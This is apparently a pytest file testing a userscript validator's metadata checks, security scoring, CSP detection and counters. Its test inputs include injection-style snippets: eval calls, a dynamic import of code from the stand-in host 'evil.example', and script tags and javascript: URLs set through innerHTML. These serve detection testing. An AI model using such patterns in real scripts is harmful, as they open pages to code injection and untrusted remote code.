"""Tests for static script validation."""

import pytest

from conftest import make_script
from scriptflow.engine.validator import CLEANUP_SUGGESTIONS, ScriptValidator


class TestValidateMetadata:
    """Tests for ScriptValidator.validate_metadata."""

    def test_valid_script(self):
        assert ScriptValidator().validate_metadata(make_script()).ok

    def test_missing_name(self):
        result = ScriptValidator().validate_metadata(make_script(name=" "))
        assert not result.ok
        assert "Script name is required" in result.errors

    def test_missing_patterns(self):
        result = ScriptValidator().validate_metadata(make_script(matches=[]))
        assert not result.ok
        assert any("@match or @include" in e for e in result.errors)

    def test_bad_run_at_and_world(self):
        result = ScriptValidator().validate_metadata(make_script(run_at="whenever", world="shadow"))
        assert len(result.errors) == 2

    def test_long_description_warns(self):
        result = ScriptValidator().validate_metadata(make_script(description="x" * 600))
        assert result.ok
        assert result.warnings


class TestValidateCode:
    """Tests for ScriptValidator.validate security analysis."""

    def test_clean_code_is_safe(self):
        result = ScriptValidator().validate(make_script())
        assert result.ok
        assert result.security_level == "safe"
        assert result.csp_compliant
        assert result.sanitized_code is None
        assert result.analysis.risk_score == 0

    def test_empty_code(self):
        result = ScriptValidator().validate(make_script(code="   "))
        assert not result.ok
        assert result.security_level == "safe"
        assert result.errors == ["Script code cannot be empty"]

    def test_oversize_code(self):
        result = ScriptValidator(max_code_size=10).validate(make_script(code="let x = 1234567890;"))
        assert not result.ok
        assert result.security_level == "dangerous"

    @pytest.mark.parametrize("code", [
        "eval('1 + 1');",
        "const f = new Function('return 1');",
        "setTimeout('alert(1)', 10);",
        "import('https://evil.example/x.js');",
        "document.write('<b>hi</b>');",
    ])
    def test_dynamic_code_is_dangerous(self, code):
        result = ScriptValidator().validate(make_script(code=code))
        assert not result.ok
        assert result.security_level == "dangerous"
        assert not result.csp_compliant
        assert result.analysis.has_eval

    @pytest.mark.parametrize("code", [
        "el.innerHTML = '<script>alert(1)</script>';",
        "a.href = 'javascript:void(0)';",
        "el.innerHTML = '<div onclick=\"go()\">x</div>';",
        "el.setAttribute('onload', 'go()');",
    ])
    def test_csp_violations(self, code):
        result = ScriptValidator().validate(make_script(code=code))
        assert not result.ok
        assert result.analysis.has_csp_violations

    def test_method_named_function_is_not_dynamic(self):
        """Only a bare Function( call counts, not obj.Function( or myFunction(."""
        result = ScriptValidator().validate(make_script(code="api.Function(1); myFunction(2);"))
        assert result.ok

    def test_onclick_property_is_not_inline_handler(self):
        """Assigning a handler in code is fine; only markup attributes violate CSP."""
        result = ScriptValidator().validate(make_script(code="button.onclick = () => go();"))
        assert result.ok

    def test_remote_code_warns(self):
        code = "const s = document.createElement('script'); s.src = 'https://cdn.example/x.js';"
        result = ScriptValidator().validate(make_script(code=code))
        assert result.ok
        assert "Script loads remote code" in result.warnings
        assert result.security_level == "warning"
        assert result.sanitized_code is not None

    def test_leak_risk_adds_cleanup_suggestions(self):
        code = "setInterval(() => tick(), 1000);"
        result = ScriptValidator().validate(make_script(code=code))
        assert result.ok
        assert result.analysis.has_leak_risk
        assert result.security_level == "safe"
        assert result.sanitized_code.startswith(CLEANUP_SUGGESTIONS)

    def test_cleanup_pair_clears_leak(self):
        code = "const id = setInterval(tick, 1000); clearInterval(id);"
        result = ScriptValidator().validate(make_script(code=code))
        assert not result.analysis.has_leak_risk
        assert result.warnings == []

    def test_risk_score_is_capped(self):
        code = (
            "eval('x'); el.innerHTML = '<script></script>'; "
            "fetch('https://a.example/x.js'); with (obj) {} setInterval(f, 1);"
        )
        analysis = ScriptValidator().analyze_security(code)
        assert analysis.risk_score == 100


class TestStats:
    """Tests for validation counters."""

    def test_counters(self):
        validator = ScriptValidator()
        validator.validate(make_script())
        validator.validate(make_script(code="eval('x')"))
        validator.validate(make_script(code=""))
        assert validator.stats() == {
            "total_validations": 3,
            "valid_scripts": 1,
            "invalid_scripts": 2,
            "dangerous_scripts": 1,
            "csp_violations": 1,
        }

    def test_sanitize_blocks_dynamic_code(self):
        assert "eval(" not in ScriptValidator().sanitize("eval('x')")
